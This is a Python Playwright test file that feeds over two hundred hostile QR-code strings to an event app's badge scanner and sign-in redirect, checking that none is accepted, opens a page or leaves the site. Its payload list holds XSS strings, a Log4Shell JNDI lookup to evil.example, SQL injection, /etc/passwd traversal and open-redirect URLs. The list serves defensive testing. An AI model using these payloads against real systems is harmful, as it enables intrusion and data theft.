"""Hostile codes before the scanner, and hostile destinations: the page stays where it is and opens nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Request

from tests.browser.conftest import Live
from tests.security.test_navigation import VECTORS

pytestmark = pytest.mark.browser
TOKEN = "0123456789ABCDEFGHJKMNPQRS"
EVIL = "evil.example"


def payloads(host: str) -> list[str]:
    """Two hundred things a code can hold that are no badge of this host."""
    schemes = ("https", "http", "HTTPS", "ftp", "ws", "file", "blob:https", "view-source:https", "intent", "market",
    "ssh")
    hosts = (EVIL, f"{host}.{EVIL}", f"{host}@{EVIL}", f"{EVIL}:443", f"xn--{EVIL}", f"{EVIL}%00{host}",
    f"{EVIL}#{host}",
             f"{EVIL}\\@{host}", "127.0.0.1:1", "[::1]:1", "0x7f000001:1", "ｅvil.example")
    found = [f"{scheme}://{name}/B/{TOKEN}" for scheme in schemes for name in hosts]
    found += [f"http://user:password@{host}/B/{TOKEN}", f"http://{TOKEN}@{host}/", f"http://{host}/B/",
    f"http://{host}/B/x",
              f"http://{host}/A/{TOKEN}", f"http://{host}/L/{TOKEN}", f"http://{host}/D/{TOKEN}",
              f"http://{host}/R/{TOKEN}",
              f"http://{host}/admin/sign-out", f"http://{host}/B/{TOKEN}/../../admin/", f"http://{host}/B/{TOKEN}0",
              f"http://{host}/B/{TOKEN[:-1]}U", f"http://{host}//{EVIL}/B/{TOKEN}", f"http://{host}/\\{EVIL}",
              f"http://{host}:1/B/{TOKEN}", f"//{EVIL}/B/{TOKEN}", f"/B/{TOKEN}", f"\\\\{EVIL}\\B\\{TOKEN}"]
    found += [
        "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)", "javascript://%0aalert(1)", "\tjavascript:alert(1)",
        "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "about:blank",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "{{constructor.constructor(1)()}}",
        "tel:+4922155555", "TEL:*%2306%23", "sms:+1?body=hi", "SMSTO:+1:hi", "facetime:a@b.example", "geo:0,0?q=x",
        "mailto:a@b.example?subject=x", "MATMSG:TO:a@b.example;SUB:x;BODY:y;;", "WIFI:T:WPA;S:Free;P:secret;;",
        "WIFI:S:x;;",
        "BEGIN:VCARD\nVERSION:3.0\nFN:Evil\nURL:https://evil.example\nEND:VCARD",
        "MECARD:N:Evil;URL:https://evil.example;;",
        "BEGIN:VEVENT\nSUMMARY:x\nURL:https://evil.example\nEND:VEVENT", "BEGIN:VCALENDAR\nEND:VCALENDAR",
        "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT?amount=1", "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP",
        "upi://pay?pa=x",
        "LPA:1$evil.example$x", "FIDO:/1234567890", "HC1:NCF", "whatsapp://send?text=x", "tg://resolve?domain=x",
        "itms-services://?action=download-manifest&url=https://evil.example/m.plist", "ms-settings:",
        "search-ms:query=x",
        "", " ", "\0", "0", "a" * 4000, "%00" * 200, "\u202e" + f"http://{EVIL}",
        "\ud83d\ude00" * 50, "'; DROP TABLE badges;--",
        "../../../etc/passwd", "${jndi:ldap://evil.example/a}", "%s%n%x", "null", "undefined", "[object Object]", "NaN",
        "__proto__", "constructor", "toString", "https:", "http://", "https://[", "https://%", f"https:\\\\{EVIL}",
        f"https:{EVIL}",
    ]
    return list(dict.fromkeys(found))


def test_hostile_codes_lead_nowhere_and_are_named_as_foreign(live: Live, new_phone: Callable[..., Page]) -> None:
    """The scanner's own reading of a code, and its own words about it, on its own page, for each payload."""
    page = new_phone(may_use_camera=False)
    client = live.client().become(live.cast.ada)
    name = client.settings.cookie_name("eventnet")
    cookie = client.get_cookie(name, domain="localhost")
    assert cookie is not None
    page.context.add_cookies([{"name": name, "value": cookie.value, "url": live.url}])
    page.goto("/e/mixer/scan")
    opened: list[str] = []
    asked: list[str] = []
    here = page.url
    page.on("framenavigated", lambda frame: opened.append(frame.url))
    page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda other: opened.append(other.url))
    page.on("request", lambda request: _note(request, live.url, asked))
    host = live.url.removeprefix("http://")
    texts = payloads(host)
    assert len(texts) >= 200
    taken = page.evaluate("""async ([texts, host]) => {
        const { badgeToken, foreignKind } = await import("/static/contacts/codes.js");
        const hint = document.getElementById("hint");
        const taken = [];
        for (const text of texts) {
          if (badgeToken(text, host) !== null) taken.push(text);
          hint.textContent = `${foreignKind(text)} ${text}`;
          await new Promise((resolve) => setTimeout(resolve, 0));
        }
        return taken;
    }""", [texts, host])
    assert (taken, opened, asked, page.url) == ([], [], [], here)
    assert page.evaluate("""async ([text, host]) => {
        const { badgeToken } = await import("/static/contacts/codes.js");
        return badgeToken(text, host);
    }""", [f"http://{host.upper()}/B/{TOKEN}", host]) == TOKEN, "a badge of ours is still one"


def _note(request: Request, ours: str, asked: list[str]) -> None:
    if not request.url.startswith((f"{ours}/", "data:")):
        asked.append(request.url)


def test_browser_stays_here_for_every_destination(live: Live, new_phone: Callable[..., Page]) -> None:
    """Chromium itself follows what the sign-in page would say, for each of the vectors."""
    page = new_phone(may_use_camera=False)
    client = live.client().become(live.cast.ada)
    name = client.settings.cookie_name("eventnet")
    cookie = client.get_cookie(name, domain="localhost")
    assert cookie is not None
    page.context.add_cookies([{"name": name, "value": cookie.value, "url": live.url}])
    page.goto("/e/mixer/privacy")
    left = page.evaluate("""async (texts) => {
        const left = [];
        for (const text of texts) {
          const answer = await fetch(`/e/mixer/sign-in?next=${encodeURIComponent(text)}`, { redirect: "follow" })
            .catch((error) => ({ url: `failed: ${error}` }));
          if (!answer.url.startsWith(`${location.origin}/`)) left.push(`${text}: ${answer.url}`);
        }
        return left;
    }""", [text for text in VECTORS if "\ud800" not in text])
    assert left == []
